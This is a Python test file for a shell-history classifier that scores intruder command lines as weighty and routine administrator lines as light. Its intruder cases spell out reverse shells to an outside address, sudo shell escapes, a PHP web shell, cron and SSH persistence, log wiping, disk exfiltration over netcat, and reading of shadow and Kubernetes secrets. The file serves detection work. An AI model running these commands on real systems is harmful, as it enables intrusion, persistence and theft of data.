"""What a line of a history is for: what intruders type weighs, and what administrators type weighs little."""

from __future__ import annotations

import pytest

from stopgap.orchestrator.findings.provenance.typed import purposes


def weight(line: str) -> int:
    return max((each.weight for each in purposes(line)), default=0)


@pytest.mark.parametrize(
    ("line", "act"),
    [
        ("telnet 198.51.100.9 4444 | /bin/bash | telnet 198.51.100.9 4445", "shell"),
        ("socat TCP:198.51.100.9:443 EXEC:sh", "shell"),
        ("sudo vim -c ':!/bin/sh'", "shell"),
        ("sudo find . -exec /bin/sh \\; -quit", "shell"),
        ("awk 'BEGIN {system(\"/bin/sh\")}'", "shell"),
        ("nc -lvp 4444", "shell"),
        ("export LD_PRELOAD=/tmp/x.so", "tools"),
        ("redis-cli -h 127.0.0.1 config set dir /var/spool/cron", "stay"),
        ("echo '<?php system($_GET[1]);?>' > /var/www/html/s.php", "stay"),
        ('echo "PermitRootLogin yes" >> /etc/ssh/sshd_config && systemctl restart sshd', "stay"),
        ("journalctl --rotate && journalctl --vacuum-time=1s", "traces"),
        ("ps aux | grep xmr | awk '{print $2}' | xargs kill -9", "miner"),
        ("for i in `seq 1 255`; do ping -c 1 10.0.0.$i; done", "miner"),
        ("dd if=/dev/sda | gzip | nc 198.51.100.9 9", "upload"),
        ("tar czf /tmp/home.tgz /home", "upload"),
        ("uname -a; id; w; cat /etc/issue", "search"),
        ("getent shadow", "secrets"),
        ("kubectl get secrets -A -o yaml", "secrets"),
    ],
)
def test_what_intruders_type_weighs(line: str, act: str) -> None:
    assert act in {each.act for each in purposes(line) if each.weight > 1}


@pytest.mark.parametrize(
    "line",
    [
        "export HISTSIZE=10000 HISTCONTROL=ignoredups:ignorespace",
        "sed -i 's/PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config",
        "wget https://nginx.org/nginx.tar.gz && tar xzf nginx.tar.gz && cd nginx && ./configure",
        "tar czf /backup/www.tgz /var/www",
        "rsync -av /srv/data backup@backup.example.com:/data",
        "find . -name '*.log' -exec gzip {} +",
        "find . -exec sh -c 'echo {}' \\;",
        "nc -zv db1 5432",
        "aws s3 sync ./build s3://site-bucket --delete",
        "kubectl get secrets",
        "docker exec -it web bash",
        "journalctl --vacuum-size=200M",
        "redis-cli config set maxmemory 2gb",
        "iptables -A INPUT -s 10.0.0.0/8 -j ACCEPT",
        "gcc -o hello hello.c && ./hello",
        "uname -a; uptime; free -m",
    ],
)
def test_what_administrators_type_weighs_little(line: str) -> None:
    assert weight(line) <= 1
